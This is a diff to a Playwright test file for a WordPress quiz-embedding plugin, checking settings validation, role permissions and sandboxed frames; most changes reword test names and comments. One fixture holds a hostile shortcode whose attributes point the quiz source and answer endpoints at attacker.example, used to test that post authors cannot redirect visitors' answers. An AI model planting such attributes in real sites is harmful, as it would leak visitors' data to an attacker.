@@ -55,7 +55,7 @@ async function answerOne(frame: FrameLocator): Promise<void> {
 const shot = (page: Page, name: string): Promise<Buffer> =>
   page.screenshot({ path: `test-results/wordpress-${name}.png` })
 
-test('a plugin without settings shows a hint only to administrators', async ({ page }) => {
+test('a plugin without settings asks only administrators for the quiz site’s address', async ({ page }) => {
   await logIn(page, 'admin')
   const address = await publish(page, 'Not set up', '[responsibility_check]')
   await page.goto(address)
@@ -85,8 +85,8 @@ test('a plugin without settings turns a pasted quiz URL into a sandboxed frame',
   await answerOne(frame)
   await shot(page, 'pasted-question')
   expect(await element.evaluate((one) => one.getBoundingClientRect().height)).toBeLessThanOrEqual(1000)
-  // A sandboxed frame cannot open a new window. The link "Open in a full page" therefore shows the URL with the
-  // answers, which the visitor can copy.
+  // A sandboxed frame cannot open a new window. A click on the link "Open in a full page" therefore shows a
+  // text field. The field contains the URL with the answers, which the visitor can copy.
   const foot = frame.getByRole('contentinfo')
   await foot.getByRole('link', { name: 'Open in a full page' }).click()
   const field = foot.getByRole('textbox')
@@ -94,8 +94,8 @@ test('a plugin without settings turns a pasted quiz URL into a sandboxed frame',
   await expect(field).toHaveValue(/\/report\/#r=1/)
   await shot(page, 'pasted-full-page')
   expect(page.url()).toBe(address)
-  // The URL of the link "Privacy" contains no answers. The frame therefore asks WordPress to replace the whole page by
-  // this URL.
+  // The URL of the link "Privacy" contains no answers. The frame therefore sends this URL to WordPress's
+  // embed script, which opens the URL in the whole window.
   await foot.getByRole('link', { name: 'Privacy' }).click()
   await page.waitForURL(`${QUIZ}/privacy/`, { timeout: 15_000 })
 })
@@ -119,7 +119,7 @@ test('the settings page rejects a URL without a scheme (docs/threats.md, finding
   await expect(page.getByLabel(labels[0]!)).toHaveValue('')
 })
 
-test('the settings page saves valid values, rejects invalid values and escapes markup', async ({ page }) => {
+test('the settings page stores only valid values, without markup', async ({ page }) => {
   await logIn(page, 'admin')
   await page.goto('/wp-admin/options-general.php?page=responsibility_check')
   await page.getByLabel('Address of your quiz site').fill(`${QUIZ}/frame/quiz/`)
@@ -141,7 +141,10 @@ test('the settings page saves valid values, rejects invalid values and escapes m
   await expect(page.locator('.notice-success')).toBeVisible()
 })
 
-/** An attack by the author of a post: a shortcode and a block with settings that only an administrator may change. */
+/**
+ * An attack by the author of a post: a shortcode and a block that try to change settings of the plugin. Only
+ * an administrator may change these settings.
+ */
 const HOSTILE = {
   shortcode:
     '[responsibility_check brand="Own" src="https://attacker.example/" lead_endpoint="https://attacker.example/a" lead-endpoint="https://attacker.example/b" privacy="https://attacker.example/p" results="answers"]',
@@ -157,7 +160,8 @@ for (const role of ROLES.filter((one) => one !== 'subscriber')) {
       const status = role === 'contributor' ? 'pending' : 'publish'
       await logIn(page, role)
       const address = await save(page, 'post', { title: `${role} ${kind}`, content, status })
-      // An administrator views the post, because an attacker would want the administrator's session.
+      // An administrator opens the post in this test, because an attack would aim at the session of an
+      // administrator.
       await logIn(page, 'admin')
       const asked: string[] = []
       page.on('request', (request) => asked.push(request.url()))
@@ -181,7 +185,7 @@ test('a subscriber cannot create a post (docs/threats.md, findings 1 and 5)', as
   expect((await page.goto('/wp-admin/post-new.php'))?.status()).toBe(403)
 })
 
-test('only an administrator with a valid form token can change the settings', async ({ page }) => {
+test('the settings change only for an administrator with a valid form token', async ({ page }) => {
   await logIn(page, 'editor')
   const seen = await page.goto('/wp-admin/options-general.php?page=responsibility_check')
   expect(seen?.status()).toBe(403)
@@ -194,7 +198,7 @@ test('only an administrator with a valid form token can change the settings', as
   await expect(page.getByLabel('Company name')).toHaveValue('Acme "IT" & Sons')
 })
 
-test('a shortcode of an editor who may not save scripts shows the quiz', async ({ page }) => {
+test('a shortcode shows the quiz if its author may not save scripts', async ({ page }) => {
   await logIn(page, 'editor')
   const address = await publish(
     page,
@@ -224,7 +228,7 @@ test('a shortcode of an editor who may not save scripts shows the quiz', async (
   await shot(page, 'shortcode-question')
 })
 
-test('an editor inserts the block, and the published page shows the quiz', async ({ page }) => {
+test('a published page with the plugin’s block shows the quiz', async ({ page }) => {
   await logIn(page, 'editor')
   await page.goto('/wp-admin/post-new.php?post_type=page')
   const close = page.getByRole('button', { name: 'Close', exact: true })
@@ -269,7 +273,7 @@ test('a plugin with settings turns a pasted quiz URL into <responsibility-check>
   await expect(page.locator('iframe.wp-embedded-content')).toHaveCount(0)
 })
 
-test('a shortcode in dialog mode opens the quiz in a dialog and logs no PHP error', async ({ page }) => {
+test('the link of a shortcode in dialog mode opens the quiz without a PHP error', async ({ page }) => {
   await logIn(page, 'editor')
   const address = await publish(
     page,
